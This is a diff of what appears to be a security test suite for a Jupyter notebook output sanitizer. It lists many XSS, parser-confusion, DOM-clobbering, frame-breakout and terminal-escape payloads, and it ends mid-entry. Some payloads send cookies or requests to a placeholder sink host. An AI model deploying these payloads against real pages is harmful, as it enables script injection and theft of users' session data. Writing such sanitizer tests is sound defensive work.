@@ -28,6 +28,7 @@ class Hostile:
     code: str
     fires: bool = False
     leaves: bool = False
+    fires_in_a_file: bool = True
 
     def cell(self, *, port: int, udp_port: int) -> str:
         """The code, for the ports of this run."""
@@ -92,13 +93,15 @@ SCRIPTS = [
     _html("script-src", "<script src='@SINK/x.js'></script>", fires=True),
     _html("script-module", f"<script type=module>{HIT}</script>", fires=True),
     _html("script-data-url", f'<script src="data:text/javascript,{HIT}"></script>', fires=True),
-    _html("script-in-table", f"<table><tr><td><script>{HIT}</script></td></tr></table>", fires=True),
+    _html(
+        "script-in-table", f"<table><tr><td><script>{HIT}</script></td></tr></table>", fires=True
+    ),
     _html("script-after-junk", f"<<<a '\"><script>{HIT}</script>", fires=True),
     _html("script-nul", f"<scr\x00ipt>{HIT}</scr\x00ipt><img src=x\x00 onerror={HIT}>"),
     _html("script-in-list", [f"<script>{HIT}", "</script>"], fires=True),  # type: ignore[arg-type]
     Hostile(
         "html-magic",
-        f"get_ipython().run_cell_magic('html', '', \"\"\"<script>{HIT}</script>\"\"\")",
+        f'get_ipython().run_cell_magic(\'html\', \'\', """<script>{HIT}</script>""")',
         fires=True,
     ),
     Hostile(
@@ -118,12 +121,12 @@ SCRIPTS = [
 HANDLERS = [
     _html(f"on-{event}-{tag}", f"<{tag} {extra} on{event}={HIT}>x</{tag}>", fires=fires)
     for tag, event, extra, fires in (
-        ("img", "error", "src=x:x", True),
+        ("img", "error", "src=data:,", True),
         ("img", "load", f"src='data:image/gif;base64,{'R0lGODlhAQABAAAAACwAAAAAAQABAAA='}'", True),
         ("svg", "load", "", True),
         ("body", "load", "", False),
-        ("video", "error", "src=x:x autoplay", True),
-        ("audio", "error", "src=x:x", True),
+        ("video", "error", "src=data:, autoplay", True),
+        ("audio", "error", "src=data:,", True),
         ("input", "focus", "autofocus", False),
         ("details", "toggle", "open", True),
         ("style", "load", "", True),
@@ -146,12 +149,14 @@ HANDLERS += [
         fires=True,
     ),
     _html(
-        "on-transition", f"<b style='transition:color 1s' tabindex=1 onfocus={HIT}>x</b>", fires=True
+        "on-transition",
+        f"<b style='transition:color 1s' tabindex=1 onfocus={HIT}>x</b>",
+        fires=True,
     ),
-    _html("attribute-without-space", f"<img/src=x:x/onerror={HIT}>", fires=True),
-    _html("attribute-newline", f"<img\nsrc=x:x\nonerror\n=\n{HIT}>", fires=True),
-    _html("attribute-entity", "<img src=x:x onerror=&#x68;it(&apos;@ID&apos;)>", fires=True),
-    _html("attribute-breakout", f"<p title='\"><img src=x:x onerror={HIT}>'>x</p>"),
+    _html("attribute-without-space", f"<img/src=data:,/onerror={HIT}>", fires=True),
+    _html("attribute-newline", f"<img\nsrc=data:,\nonerror\n=\n{HIT}>", fires=True),
+    _html("attribute-entity", "<img src=data:, onerror=&#x68;it(&apos;@ID&apos;)>", fires=True),
+    _html("attribute-breakout", f"<p title='\"><img src=data:, onerror={HIT}>'>x</p>"),
     _html("table-background", "<table background='@SINK/bg'><td background='@SINK/td'>x</table>"),
 ]
 
@@ -228,7 +233,7 @@ MIME_TYPES = [
     Hostile(
         "page-payload",
         "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0, 'data':"
-        f' {{"text/html": "<img src=x:x onerror={HIT}>", "text/plain": "x"}}}})',
+        f' {{"text/html": "<img src=data:, onerror={HIT}>", "text/plain": "x"}}}})',
         fires=True,
     ),
     Hostile(
@@ -265,7 +270,7 @@ URLS = [
     _html("javascript-link", f'<a href="javascript:{HIT}">click</a>', fires=True),
     _html("javascript-link-tab", f'<a href="java\tscript\n:{HIT}">click</a>', fires=True),
     _html("javascript-entity", '<a href="&#106;avascript&colon;hit(`@ID`)">click</a>', fires=True),
-    _html("javascript-xlink", f"{_SVG}><a xlink:href=\"javascript:{HIT}\"><text>x</text></a></svg>"),
+    _html("javascript-xlink", f'{_SVG}><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>'),
     _html("javascript-area", f'<map name=m><area href="javascript:{HIT}" shape=default></map>'),
     _html("javascript-frame", f'<iframe src="javascript:{HIT}"></iframe>', fires=True),
     _html("data-link", f'<a href="data:text/html,<script>{HIT}</script>">click</a>'),
@@ -290,7 +295,7 @@ URLS = [
     _html("base", "<base href='@SINK/'><img src=image><a href=x>click</a>", leaves=True),
     _html("base-target", "<base target=_top href='@SINK/'>", leaves=True),
     _html("object", "<object data='@SINK/object'></object>", fires=True),
-    _html("object-svg", f"<object data=\"data:image/svg+xml,{_SVG}><script>{HIT}</script></svg>\">"),
+    _html("object-svg", f'<object data="data:image/svg+xml,{_SVG}><script>{HIT}</script></svg>">'),
     _html("embed", "<embed src='@SINK/embed'>", fires=True),
     _html("applet", "<applet code=x archive='@SINK/x.jar'></applet><param name=x value='@SINK'>"),
     _html("frame", "<iframe src='@SINK/frame'></iframe>", fires=True),
@@ -341,7 +346,7 @@ STYLES = [
     ),
     _html(
         "overlay-important",
-        "<table style='position:fixed!important;top:0;left:0;width:100vw;height:100vh;z-index:9999'>"
+        "<table style='position:fixed!important;top:0;left:0;width:100vw;height:100vh'>"
         "<tr><td>x</td></tr></table>",
     ),
     _html("overlay-transform", "<p style='transform:scale(900);z-index:9999'>x</p>"),
@@ -349,11 +354,16 @@ STYLES = [
         "overlay-margin",
         "<div style='margin:-3000px;padding:3000px;position:relative;z-index:99999'>x</div>",
     ),
-    _html("overlay-popover", "<div popover=manual id=q style='inset:0'>x</div>"
-          "<button popovertarget=q>x</button>"),
+    _html(
+        "overlay-popover",
+        "<div popover=manual id=q style='inset:0'>x</div><button popovertarget=q>x</button>",
+    ),
     _html("overlay-dialog", "<dialog open style='position:fixed;inset:0;z-index:9'>x</dialog>"),
-    _html("hide-lab", "<style>#jp-top-panel,body{display:none!important}:root{--canary-@ID:1}</style>",
-          fires=True),
+    _html(
+        "hide-lab",
+        "<style>#jp-top-panel,body{display:none!important}:root{--canary-@ID:1}</style>",
+        fires=True,
+    ),
     _html("style-breakout", f"<b style='x:&quot;}}</style><script>{HIT}</script>'>x</b>"),
 ]
 
@@ -381,100 +391,194 @@ SVGS = [
             f" SYSTEM '@SINK/entity'>]>{_SVG}><text>&e;&f;</text></svg>"
         },
     ),
-    _bundle(
-        "svg-no-svg", {"image/svg+xml": f"<html><body><script>{HIT}</script></body></html>"}
+    _bundle("svg-no-svg", {"image/svg+xml": f"<html><body><script>{HIT}</script></body></html>"}),
+    _html(
+        "svg-animate",
+        f'{_SVG}><a><animate attributeName=href values="javascript:{HIT}"/>'
+        "<text y=10>x</text></a></svg>",
     ),
-    _html("svg-animate", f'{_SVG}><a><animate attributeName=href values="javascript:{HIT}"/>'
-          "<text y=10>x</text></a></svg>"),
-    _html("svg-set", f'{_SVG}><a><set attributeName=href to="javascript:{HIT}"/>'
-          "<text y=10>x</text></a></svg>"),
-    _html("svg-onbegin", f"{_SVG}><animate onbegin={HIT} attributeName=x dur=1s /></svg>",
-          fires=True),
-    _html("svg-use", f"{_SVG}><use href=\"data:image/svg+xml,{_SVG} id='x'><script>{HIT}</script>"
-          '</svg>#x"/></svg>'),
-    _html("svg-foreign-object", f"{_SVG}><foreignObject><img src=x:x onerror={HIT}></foreignObject>"
-          "</svg>", fires=True),
-    _html("svg-image", f'<img src="data:image/svg+xml,{_SVG}><script>{_ESCAPED_HIT}</script></svg>">'),
-    _html("svg-feimage", f"{_SVG}><filter id=f><feImage href='@SINK/fe'/></filter>"
-          "<rect width=9 height=9 filter='url(#f)'/></svg>", fires=True),
+    _html(
+        "svg-set",
+        f'{_SVG}><a><set attributeName=href to="javascript:{HIT}"/><text y=10>x</text></a></svg>',
+    ),
+    _html(
+        "svg-onbegin", f"{_SVG}><animate onbegin={HIT} attributeName=x dur=1s /></svg>", fires=True
+    ),
+    _html(
+        "svg-use",
+        f"{_SVG}><use href=\"data:image/svg+xml,{_SVG} id='x'><script>{HIT}</script>"
+        '</svg>#x"/></svg>',
+    ),
+    _html(
+        "svg-foreign-object",
+        f"{_SVG}><foreignObject><img src=data:, onerror={HIT}></foreignObject></svg>",
+        fires=True,
+    ),
+    _html(
+        "svg-image", f'<img src="data:image/svg+xml,{_SVG}><script>{_ESCAPED_HIT}</script></svg>">'
+    ),
+    _html(
+        "svg-feimage",
+        f"{_SVG}><filter id=f><feImage href='@SINK/fe'/></filter>"
+        "<rect width=9 height=9 filter='url(#f)'/></svg>",
+        fires=True,
+    ),
     _html("svg-style", f"{_SVG}><style>:root{{--canary-@ID:1}}</style></svg>", fires=True),
 ]
 
 CONFUSIONS = [
-    _html("math-mglyph", "<math><mtext><table><mglyph><style><!--</style>"
-          f"<img title=\"--&gt;&lt;img src=x:x onerror={HIT}&gt;\">"),
-    _html("math-annotation", "<math><annotation-xml encoding=text/html>"
-          f"<img src=x:x onerror={HIT}></annotation-xml></math>", fires=True),
+    _html(
+        "math-mglyph",
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f'<img title="--&gt;&lt;img src=data:, onerror={HIT}&gt;">',
+    ),
+    _html(
+        "math-annotation",
+        "<math><annotation-xml encoding=text/html>"
+        f"<img src=data:, onerror={HIT}></annotation-xml></math>",
+        fires=True,
+    ),
     _html("math-href", f'<math href="javascript:{HIT}"><mtext>click</mtext></math>'),
-    _html("math-style", f"<math><style><img src=x:x onerror={HIT}></style></math>", fires=True),
-    _html("svg-style-confusion", f"<svg></p><style><a id=\"</style><img src=x:x onerror={HIT}>\">",
-          fires=True),
-    _html("noscript-confusion", f'<noscript><p title="</noscript><img src=x:x onerror={HIT}>">',
-          fires=True),
-    _html("comment-confusion", f"<!--><img src=x:x onerror={HIT}>-->", fires=True),
-    _html("comment-bang", f"<!-- --!><img src=x:x onerror={HIT}> -->", fires=True),
-    _html("cdata-confusion", f"<svg><![CDATA[><img src=x:x onerror={HIT}>]]>", fires=False),
-    _html("processing-instruction", f"<?x ><img src=x:x onerror={HIT}>?>", fires=True),
-    _html("textarea-confusion", f"<textarea><img title='</textarea><img src=x:x onerror={HIT}>'>",
-          fires=True),
-    _html("title-confusion", f"<title><a title='</title><img src=x:x onerror={HIT}>'>", fires=True),
-    _html("select-confusion", f"<select><template><img src=x:x onerror={HIT}></template></select>"),
-    _html("template-shadow", "<div><template shadowrootmode=open>"
-          f"<img src=x:x onerror={HIT}></template></div>"),
-    _html("nested-forms", "<form id=a><div></form><form id=b><math><mtext></form><form><mglyph>"
-          f"<style></math><img src=x:x onerror={HIT}>", fires=True),
-    _html("plaintext", f"<xmp><p title='</xmp><img src=x:x onerror={HIT}>'></p><plaintext>",
-          fires=True),
-    _html("unclosed-attribute", f"<p title=\"x\n<img src=x:x onerror={HIT}>\n"),
-    _html("custom-element", f"<x-y onclick={HIT} is=z tabindex=0 onfocus={HIT}>x</x-y>", fires=True),
+    _html("math-style", f"<math><style><img src=data:, onerror={HIT}></style></math>", fires=True),
+    _html(
+        "svg-style-confusion",
+        f'<svg></p><style><a id="</style><img src=data:, onerror={HIT}>">',
+        fires=True,
+    ),
+    _html(
+        "noscript-confusion",
+        f'<noscript><p title="</noscript><img src=data:, onerror={HIT}>">',
+        fires=True,
+    ),
+    _html("comment-confusion", f"<!--><img src=data:, onerror={HIT}>-->", fires=True),
+    _html("comment-bang", f"<!-- --!><img src=data:, onerror={HIT}> -->", fires=True),
+    _html("cdata-confusion", f"<svg><![CDATA[><img src=data:, onerror={HIT}>]]>", fires=False),
+    _html("processing-instruction", f"<?x ><img src=data:, onerror={HIT}>?>", fires=True),
+    _html(
+        "textarea-confusion",
+        f"<textarea><img title='</textarea><img src=data:, onerror={HIT}>'>",
+        fires=True,
+    ),
+    _html(
+        "title-confusion", f"<title><a title='</title><img src=data:, onerror={HIT}>'>", fires=True
+    ),
+    _html(
+        "select-confusion", f"<select><template><img src=data:, onerror={HIT}></template></select>"
+    ),
+    _html(
+        "template-shadow",
+        f"<div><template shadowrootmode=open><img src=data:, onerror={HIT}></template></div>",
+    ),
+    _html(
+        "nested-forms",
+        "<form id=a><div></form><form id=b><math><mtext></form><form><mglyph>"
+        f"<style></math><img src=data:, onerror={HIT}>",
+        fires=True,
+    ),
+    _html(
+        "plaintext",
+        f"<xmp><p title='</xmp><img src=data:, onerror={HIT}>'></p><plaintext>",
+        fires=True,
+    ),
+    _html("unclosed-attribute", f'<p title="x\n<img src=data:, onerror={HIT}>\n'),
+    _html(
+        "custom-element", f"<x-y onclick={HIT} is=z tabindex=0 onfocus={HIT}>x</x-y>", fires=True
+    ),
     _html("utf-7", "+ADw-script+AD4-hit('@ID')+ADw-/script+AD4-"),
-    _html("surrogates", f"<b title='\ud83d'>\udc00</b><img src=x:x onerror={HIT}>"),
-    _html("clobber-id", "<img id=clobber-@ID name=clobber-@ID><form id=jupyterlab><input name=x>",
-          fires=True),
-    _html("clobber-body", "<img name=body><img name=querySelector><img name=getElementById>"
-          "<form name=documentElement><input name=style id=clobber-@ID></form>", fires=True),
-    _html("clobber-config", "<script id=jupyter-config-data type=application/json>"
-          '{"baseUrl":"@SINK/"}</script><a id=clobber-@ID>x</a>', fires=True),
+    _html("surrogates", f"<b title='\ud83d'>\udc00</b><img src=data:, onerror={HIT}>"),
+    _html(
+        "clobber-id",
+        "<img id=clobber-@ID name=clobber-@ID><form id=jupyterlab><input name=x>",
+        fires=True,
+    ),
+    _html(
+        "clobber-body",
+        "<img name=body><img name=querySelector><img name=getElementById>"
+        "<form name=documentElement><input name=style id=clobber-@ID></form>",
+        fires=True,
+    ),
+    _html(
+        "clobber-config",
+        "<script id=jupyter-config-data type=application/json>"
+        '{"baseUrl":"@SINK/"}</script><a id=clobber-@ID>x</a>',
+        fires=True,
+    ),
     _html("attribute-frame", "\"></iframe><script>hit('@ID')</script>", fires=True),
-    _html("frame-breakout", "</iframe></div></body></html><img src=x:x onerror=hit('@ID')>",
-          fires=True),
-    _html("frame-breakout-entities", "&quot;&gt;&lt;/iframe&gt;&lt;img src=x:x"
-          " onerror=hit(&#39;@ID&#39;)&gt;"),
-    _html("frame-breakout-twice", "&amp;quot;&amp;gt;&amp;lt;script&amp;gt;hit(`@ID`)"
-          "&amp;lt;/script&amp;gt;\" onload=\"hit('@ID')\" x=\""),
+    _html(
+        "frame-breakout",
+        "</iframe></div></body></html><img src=data:, onerror=hit('@ID')>",
+        fires=True,
+    ),
+    _html(
+        "frame-breakout-entities",
+        "&quot;&gt;&lt;/iframe&gt;&lt;img src=data:, onerror=hit(&#39;@ID&#39;)&gt;",
+    ),
+    _html(
+        "frame-breakout-twice",
+        "&amp;quot;&amp;gt;&amp;lt;script&amp;gt;hit(`@ID`)"
+        '&amp;lt;/script&amp;gt;" onload="hit(\'@ID\')" x="',
+    ),
 ]
 
 COMMANDS = [
-    _html("command-button", "<button data-commandlinker-command='docmanager:open'"
-          " data-commandlinker-args='{\"path\":\"canary-@ID\"}'>click</button>", fires=True),
-    _html("command-link", "<a href='#' data-commandlinker-command='docmanager:open'"
-          " data-commandlinker-args='{\"path\":\"canary-@ID\"}'>click</a>", fires=True),
-    _html("command-table", "<table data-commandlinker-command='docmanager:open'"
-          " data-commandlinker-args='{\"path\":\"canary-@ID\"}' tabindex=0><tr><td>x</td></tr>"
-          "</table>", fires=True),
-    _html("command-case", "<b DATA-CommandLinker-Command='docmanager:open' tabindex=0"
-          " Data-CommandLinker-Args='{\"path\":\"canary-@ID\"}'>click</b>", fires=True),
-    _html("lab-class", "<div class='jp-Dialog jp-mod-styled lm-Menu' tabindex=0 contenteditable"
-          " role=dialog accesskey=s draggable=true>x</div>"),
-    _markdown("command-markdown", "<button data-commandlinker-command='docmanager:open'"
-              " data-commandlinker-args='{\"path\":\"canary-@ID\"}'>click</button>", fires=True),
+    _html(
+        "command-button",
+        "<button data-commandlinker-command='docmanager:open'"
+        ' data-commandlinker-args=\'{"path":"canary-@ID"}\'>click</button>',
+        fires=True,
+    ),
+    _html(
+        "command-link",
+        "<a href='#' data-commandlinker-command='docmanager:open'"
+        ' data-commandlinker-args=\'{"path":"canary-@ID"}\'>click</a>',
+        fires=True,
+    ),
+    _html(
+        "command-table",
+        "<table data-commandlinker-command='docmanager:open'"
+        ' data-commandlinker-args=\'{"path":"canary-@ID"}\' tabindex=0><tr><td>x</td></tr>'
+        "</table>",
+        fires=True,
+    ),
+    _html(
+        "command-case",
+        "<b DATA-CommandLinker-Command='docmanager:open' tabindex=0"
+        ' Data-CommandLinker-Args=\'{"path":"canary-@ID"}\'>click</b>',
+        fires=True,
+    ),
+    _html(
+        "lab-class",
+        "<div class='jp-Dialog jp-mod-styled lm-Menu' tabindex=0 contenteditable"
+        " role=dialog accesskey=s draggable=true>x</div>",
+    ),
+    _markdown(
+        "command-markdown",
+        "<button data-commandlinker-command='docmanager:open'"
+        ' data-commandlinker-args=\'{"path":"canary-@ID"}\'>click</button>',
+        fires=True,
+    ),
 ]
 
 MARKDOWN = [
     _markdown("markdown-script", f"# Hello\n\n<script>{HIT}</script>", fires=True),
-    _markdown("markdown-onerror", f"text <img src=x:x onerror={HIT}> text", fires=True),
+    _markdown("markdown-onerror", f"text <img src=data:, onerror={HIT}> text", fires=True),
     _markdown("markdown-javascript", f"[click](javascript:{HIT})"),
     _markdown("markdown-data", f"[click](data:text/html,<script>{HIT}</script>)"),
     _markdown("markdown-image", "![x](@SINK/image.png) ![y](canary-@ID.png)", fires=True),
     _markdown("markdown-reference", "![x][y]\n\n[y]: @SINK/image.png", fires=True),
     _markdown("markdown-autolink", f"<javascript:{HIT}> <@SINK/link>"),
-    _markdown("markdown-fence", f"```\"><img src=x:x onerror={HIT}>\nx\n```\n"),
-    _markdown("markdown-title", f"![a](x:x \"'><img src=x:x onerror={HIT}>\")"),
-    _markdown("markdown-alt", f"![\"><img src=x:x onerror={HIT}>](data:image/png;base64,x)"),
-    _markdown("markdown-mermaid", f"```mermaid\ngraph TD;A[<img src=x:x onerror={HIT}>]-->B;\n"
-              f'click A "javascript:{HIT}"\n```'),
-    _markdown("markdown-math", f"$$\\href{{javascript:{HIT}}}{{x}}$$ `$<img src=x onerror={HIT}>$`"),
-    _markdown("markdown-deep", "> " * 3000 + f"<img src=x:x onerror={HIT}>"),
+    _markdown("markdown-fence", f'```"><img src=data:, onerror={HIT}>\nx\n```\n'),
+    _markdown("markdown-title", f'![a](x:x "\'><img src=data:, onerror={HIT}>")'),
+    _markdown("markdown-alt", f'!["><img src=data:, onerror={HIT}>](data:image/png;base64,x)'),
+    _markdown(
+        "markdown-mermaid",
+        f"```mermaid\ngraph TD;A[<img src=data:, onerror={HIT}>]-->B;\n"
+        f'click A "javascript:{HIT}"\n```',
+    ),
+    _markdown(
+        "markdown-math", f"$$\\href{{javascript:{HIT}}}{{x}}$$ `$<img src=x onerror={HIT}>$`"
+    ),
+    _markdown("markdown-deep", "> " * 3000 + f"<img src=data:, onerror={HIT}>"),
     _markdown("markdown-brackets", "[" * 20000 + "x" + "](" * 5000),
 ]
 
@@ -486,69 +590,142 @@ LATEX = [
         ("style", "$\\style{position:fixed;inset:0;background:url(@SINK/bg)}{x}$", False),
         ("class", "$\\class{jp-Dialog}{\\cssId{clobber-@ID}{x}}$", False),
         ("image", "$\\includegraphics{@SINK/image}$", False),
-        ("html", f"$x$ <img src=x:x onerror={HIT}> $\\text{{<img src=x:x onerror={HIT}>}}$", True),
+        (
+            "html",
+            f"$x$ <img src=data:, onerror={HIT}> $\\text{{<img src=data:, onerror={HIT}>}}$",
+            True,
+        ),
         ("unicode", "$\\unicode[q;background:url(@SINK/bg)]{65}$", False),
         ("require", "$\\require{html}\\require{action}\\texttip{x}{<script>}$", False),
         ("data", f"$\\data{{onclick={HIT}}}{{x}}$", False),
-        ("macros", "$" + "".join(f"\\def\\{c}{{\\{d}\\{d}\\{d}}}" for c, d in zip("abcdefgh",
-         "bcdefghi", strict=True)) + "\\def\\i{x}\\a$", False),
+        (
+            "macros",
+            "$"
+            + "".join(
+                f"\\def\\{c}{{\\{d}\\{d}\\{d}}}"
+                for c, d in zip("abcdefgh", "bcdefghi", strict=True)
+            )
+            + "\\def\\i{x}\\a$",
+            False,
+        ),
     )
 ]
 
 FRAMES = [
     _html("frame-srcdoc", _frame(f"<script>{HIT}</script>"), fires=True),
     _html("frame-nested", _frame(_frame(_frame(f"<script>{HIT}</script>"))), fires=True),
-    _html("frame-sandbox-off", "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation"
-          f" allow-popups' srcdoc=\"<script>{HIT};top.{HIT}</script>\"></iframe>", fires=True),
-    _script("parent-document", f"parent.document.body.innerHTML='x';{HIT}", fires=False, leaves=True),
-    _script("parent-call", f"for(w of [parent,top,opener,parent.parent])try{{w.{HIT}}}catch(e){{}}",
-            fires=True),
-    _script("parent-eval", f"parent.postMessage({{type:'eval',code:\"{HIT}\"}},'*');"
-            f"top.postMessage(\"{HIT}\",'*')"),
+    _html(
+        "frame-sandbox-off",
+        "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation"
+        f' allow-popups\' srcdoc="<script>{HIT};top.{HIT}</script>"></iframe>',
+        fires=True,
+    ),
+    _script(
+        "parent-document", f"parent.document.body.innerHTML='x';{HIT}", fires=False, leaves=True
+    ),
+    _script(
+        "parent-call",
+        f"for(w of [parent,top,opener,parent.parent])try{{w.{HIT}}}catch(e){{}}",
+        fires=True,
+    ),
+    _script(
+        "parent-eval",
+        f"parent.postMessage({{type:'eval',code:\"{HIT}\"}},'*');top.postMessage(\"{HIT}\",'*')",
+    ),
     _script("top-location", "top.location='@SINK/top'", leaves=True),
-    _script("top-javascript", f"top.location=\"javascript:{HIT}\"", leaves=True),
+    _script("top-javascript", f'top.location="javascript:{HIT}"', leaves=True),
     _script("parent-location", "parent.location='@SINK/parent'", leaves=True),
-    _script("own-location", "location='@SINK/own?'+encodeURIComponent(document.cookie)", leaves=True),
-    _script("own-location-click", "a=document.createElement('a');a.href='@SINK/own';"
-            "document.body?.append(a);a.click()", leaves=True),
-    _script("own-location-refresh", "m=document.createElement('meta');m.httpEquiv='refresh';"
-            "m.content='0;url=@SINK/refresh';document.head.append(m)", leaves=True),
+    _script(
+        "own-location", "location='@SINK/own?'+encodeURIComponent(document.cookie)", leaves=True
+    ),
+    _script(
+        "own-location-click",
+        "a=document.createElement('a');a.href='@SINK/own';document.body?.append(a);a.click()",
+        leaves=True,
+    ),
+    _script(
+        "own-location-refresh",
+        "m=document.createElement('meta');m.httpEquiv='refresh';"
+        "m.content='0;url=@SINK/refresh';document.head.append(m)",
+        leaves=True,
+    ),
     _script("own-location-data", "location='data:text/html,<img src=@SINK/data>'", leaves=True),
-    _script("own-location-blob", "location=URL.createObjectURL(new Blob(['<img src=@SINK/blob>'],"
-            "{type:'text/html'}))", leaves=True),
-    _script("inner-location", "f=document.createElement('iframe');f.src='@SINK/inner';"
-            "document.documentElement.append(f)", fires=True),
+    _script(
+        "own-location-blob",
+        "location=URL.createObjectURL(new Blob(['<img src=@SINK/blob>'],{type:'text/html'}))",
+        leaves=True,
+    ),
+    _script(
+        "inner-location",
+        "f=document.createElement('iframe');f.src='@SINK/inner';document.documentElement.append(f)",
+        fires=True,
+    ),
     _html("inner-location-srcdoc", _frame("<script>location='@SINK/inner'</script>"), fires=True),
     _script("window-open", "window.open('@SINK/open');window.open('about:blank')?.document"),
-    _script("rewritten-document", "document.open();document.write('<img src=@SINK/w>"
-            f"<script>{HIT.replace(chr(39), chr(96))}<\\/script>');document.close()", leaves=True),
-    _script("policy-removed", "document.querySelectorAll('meta').forEach(m=>m.remove());"
-            "new Image().src='@SINK/image'", fires=True),
+    _script(
+        "rewritten-document",
+        "document.open();document.write('<img src=@SINK/w>"
+        f"<script>{HIT.replace(chr(39), chr(96))}<\\/script>');document.close()",
+        leaves=True,
+    ),
+    _script(
+        "policy-removed",
+        "document.querySelectorAll('meta').forEach(m=>m.remove());new Image().src='@SINK/image'",
+        fires=True,
+    ),
     _script("fetch", "fetch('@SINK/fetch',{method:'POST',mode:'no-cors',body:'x'})", fires=True),
-    _script("fetch-api", "fetch('/api/contents?canary=@ID',{credentials:'include'});"
-            "fetch(top.location.origin+'/api/contents?canary=@ID')", fires=True),
+    _script(
+        "fetch-api",
+        "fetch('/api/contents?canary=@ID',{credentials:'include'});"
+        "fetch(top.location.origin+'/api/contents?canary=@ID')",
+        fires=True,
+    ),
     _script("websocket", "new WebSocket('ws://@HOST/@ID/socket')", fires=True),
     _script("event-source", "new EventSource('@SINK/events')", fires=True),
     _script("beacon", "navigator.sendBeacon('@SINK/beacon','x')", fires=True),
     _script("webrtc", _RTC),
     _html("webrtc-inner-frame", _frame(f"<script>{_RTC}</script>")),
-    _script("webrtc-made-frame", "f=document.createElement('iframe');f.srcdoc='<script>"
-            + _RTC.replace("'", "\\'") + "<\\/script>';document.documentElement.append(f)"),
-    _script("webrtc-written-frame", "document.write('<ifr');document.write('ame srcdoc=\""
-            "<script>" + _RTC.replace("'", "\\'") + "<\\/script>\"></iframe>')", leaves=True),
+    _script(
+        "webrtc-made-frame",
+        "f=document.createElement('iframe');f.srcdoc='<script>"
+        + _RTC.replace("'", "\\'")
+        + "<\\/script>';document.documentElement.append(f)",
+    ),
+    _script(
+        "webrtc-written-frame",
+        "document.write('<ifr');document.write('ame srcdoc=\""
+        "<script>" + _RTC.replace("'", "\\'") + "<\\/script>\"></iframe>')",
+        leaves=True,
+    ),
     _script("webtransport", "new WebTransport('https://@HOST/@ID/x')"),
-    _script("worker", "new Worker(URL.createObjectURL(new Blob([\"fetch('@SINK/w',{mode:'no-cors'})\"])))",
-            fires=True),
-    _script("service-worker", "navigator.serviceWorker.register('/files/canary-@ID.js');"
-            "navigator.serviceWorker.register('/api/contents?canary=@ID')", fires=True),
+    _script(
+        "worker",
+        "new Worker(URL.createObjectURL(new Blob([\"fetch('@SINK/w',{mode:'no-cors'})\"])))",
+        fires=True,
+    ),
+    _script(
+        "service-worker",
+        "navigator.serviceWorker.register('/files/canary-@ID.js');"
+        "navigator.serviceWorker.register('/api/contents?canary=@ID')",
+        fires=True,
+    ),
     _script("import", "import('@SINK/x.js')", fires=True),
-    _script("storage", "localStorage.x;document.cookie;indexedDB.open('x');caches.open('x');" + HIT,
-            fires=True),
+    _script(
+        "storage",
+        "localStorage.x;document.cookie;indexedDB.open('x');caches.open('x');" + HIT,
+        fires=True,
+    ),
     _script("dialogs", "setTimeout(()=>{alert(1);confirm(1);prompt(1);print()},0)", leaves=True),
-    _script("fullscreen", "document.documentElement.requestFullscreen();navigator.clipboard.readText();"
-            "navigator.geolocation.getCurrentPosition(()=>0);Notification.requestPermission()"),
-    _script("beforeunload", "addEventListener('beforeunload',e=>{e.preventDefault();return 1})",
-            leaves=True),
+    _script(
+        "fullscreen",
+        "document.documentElement.requestFullscreen();navigator.clipboard.readText();"
+        "navigator.geolocation.getCurrentPosition(()=>0);Notification.requestPermission()",
+    ),
+    _script(
+        "beforeunload",
+        "addEventListener('beforeunload',e=>{e.preventDefault();return 1})",
+        leaves=True,
+    ),
 ]
 
 TEXTS = [
@@ -556,26 +733,47 @@ TEXTS = [
     Hostile("escape-link", r"print('\x1b]8;;javascript:hit(`@ID`)\x1b\\click\x1b]8;;\x1b\\')"),
     Hostile("escape-clipboard", r"print('\x1b]52;c;Y3VybCBldmls\x07')"),
     Hostile("escape-screen", r"print('\x1b[2J\x1b[1;1H\x1b[?1049h\x1bc\x9b2J\x90q\x9c')"),
-    Hostile("escape-html", f"print('\\x1b[31m<script>{_ESCAPED_HIT}</script>"
-            f'<img src=x:x onerror="{HIT.replace(chr(39), chr(96))}">\\x1b[0m\')'),
-    Hostile("escape-colour", "print('\\x1b[38;2;1;2;3\"><img src=x:x onerror=hit(`@ID`)>m x')"),
-    Hostile("text-link", "print('javascript:hit(`@ID`) http://@HOST/@ID/\"onmouseover=\"hit(`@ID`)"
-            " https://x/<script>')"),
+    Hostile(
+        "escape-html",
+        f"print('\\x1b[31m<script>{_ESCAPED_HIT}</script>"
+        f'<img src=data:, onerror="{HIT.replace(chr(39), chr(96))}">\\x1b[0m\')',
+    ),
+    Hostile("escape-colour", "print('\\x1b[38;2;1;2;3\"><img src=data:, onerror=hit(`@ID`)>m x')"),
+    Hostile(
+        "text-link",
+        'print(\'javascript:hit(`@ID`) http://@HOST/@ID/"onmouseover="hit(`@ID`)'
+        " https://x/<script>')",
+    ),
     Hostile("text-bidi", "print('\\u202e\\u2066 evil \\u2069')"),
-    Hostile("text-huge", "print('x' * 30_000_000)"),
-    Hostile("text-many", "import sys\nfor n in range(20_000): print(n, file=sys.stderr if n % 2 else"
-            " sys.stdout)"),
-    Hostile("text-stderr", f"import sys\nprint('<script>{_ESCAPED_HIT}</script>\\x1b]0;x\\x07',"
-            " file=sys.stderr)"),
-    Hostile("error-name", "raise type('<img src=x:x onerror=hit(`@ID`)>', (Exception,), {})('x')"),
-    Hostile("error-value", "raise ValueError('<script>hit(`@ID`)</script>\\x1b]8;;javascript:1\\x07x')"),
-    Hostile("error-traceback", "class E(Exception):\n    def _render_traceback_(self):\n"
-            "        return ['<img src=x:x onerror=hit(`@ID`)>', '\\x1b]0;x\\x07', '\\x9b2J']\n"
-            "raise E('x')"),
+    Hostile("text-huge", "print('x' * 12_000_000)"),
+    Hostile(
+        "text-many",
+        "import sys\nfor n in range(20_000): print(n, file=sys.stderr if n % 2 else sys.stdout)",
+    ),
+    Hostile(
+        "text-stderr",
+        f"import sys\nprint('<script>{_ESCAPED_HIT}</script>\\x1b]0;x\\x07', file=sys.stderr)",
+    ),
+    Hostile(
+        "error-name", "raise type('<img src=data:, onerror=hit(`@ID`)>', (Exception,), {})('x')"
+    ),
+    Hostile(
+        "error-value", "raise ValueError('<script>hit(`@ID`)</script>\\x1b]8;;javascript:1\\x07x')"
+    ),
+    Hostile(
+        "error-traceback",
